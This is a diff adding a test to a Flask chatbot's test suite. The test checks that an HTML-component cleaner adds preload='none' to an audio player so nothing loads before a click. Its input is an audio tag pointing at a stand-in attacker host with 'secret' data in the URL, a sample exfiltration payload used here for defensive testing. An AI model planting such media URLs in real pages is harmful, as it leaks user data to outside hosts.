@@ -156,3 +156,10 @@ def test_the_page_csp_lets_https_media_play_and_keeps_images_to_listed_hosts(ser
     status, headers, _ = fetch(f"http://127.0.0.1:{server.port}/chat/")
     policy = dict(d.strip().split(" ", 1) for d in headers["Content-Security-Policy"].split(";") if d.strip())
     assert policy["media-src"] == "'self' https:" and policy["img-src"] == "'self' data:"
+
+
+def test_an_html_component_s_player_loads_nothing_before_a_click() -> None:
+    from flask_chatbot.html_component import clean_html_component
+
+    html = clean_html_component('<audio src="https://evil.example/x?d=secret" controls></audio>')
+    assert 'preload="none"' in html
